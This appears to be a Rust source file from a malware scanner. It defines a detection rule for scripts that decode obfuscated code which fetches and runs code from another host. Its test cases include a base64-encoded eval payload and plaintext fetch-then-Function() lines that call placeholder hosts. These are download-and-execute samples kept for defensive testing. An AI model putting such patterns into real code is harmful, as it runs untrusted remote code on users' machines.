//! `remote-run-in-encoded-code`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "remote-run-in-encoded-code",
    description: "The script decodes code that fetches more code from another host and runs it.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::ForeignRun])],
    within: 0,
    only_if: Some(is_encoded),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"eval(atob('ZmV0Y2goImh0dHBzOi8vY29kZWQtaG9zdC5leGFtcGxlL2EiKS50aGVuKGE9PmEudGV4dCgpKS50aGVuKGI9PkZ1bmN0aW9uKGIpKCkp'))"#,
        ],
        without: &[
            r#"setTimeout('fetch("https://c.example/a").then(a=>a.text()).then(b=>Function(b)())')"#,
            r#"fetch("https://c.example/a").then(a=>a.text()).then(b=>Function(b)())"#,
            r#"eval(atob('ZmV0Y2goImh0dHBzOi8vY29kZWQtaG9zdC5leGFtcGxlL2EiKS50aGVuKGE9PmEudGV4dCgpKS50aGVuKGI9PmRvY3VtZW50LnRpdGxlPWIp'))"#,
        ],
    },
};

/// Whether the code that runs the answer is in decoded text, and the source nowhere shows its words.
fn is_encoded(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 0);
    let sink = held.last as usize;
    if near.item(sink).is_none_or(|item| item.layer == 0) {
        return false;
    }
    let words = (sink.saturating_sub(AROUND)..sink + AROUND)
        .filter(|at| {
            near.item(*at).is_some_and(|item| item.layer > 0 && matches!(item.kind, Kind::Member | Kind::Str))
        })
        .map(|at| near.word(at))
        .filter(|word| word.len() >= SHORTEST);
    let (shown, hidden): (Vec<&str>, Vec<&str>) = words.partition(|word| {
        memchr::memmem::find(evidence.stream.source().as_bytes(), word.as_bytes()).is_some()
    });
    hidden.len() > shown.len()
}

/// Items around the place where the answer is run.
const AROUND: usize = 60;
/// Bytes of the shortest word that is looked for in the source.
const SHORTEST: usize = 4;
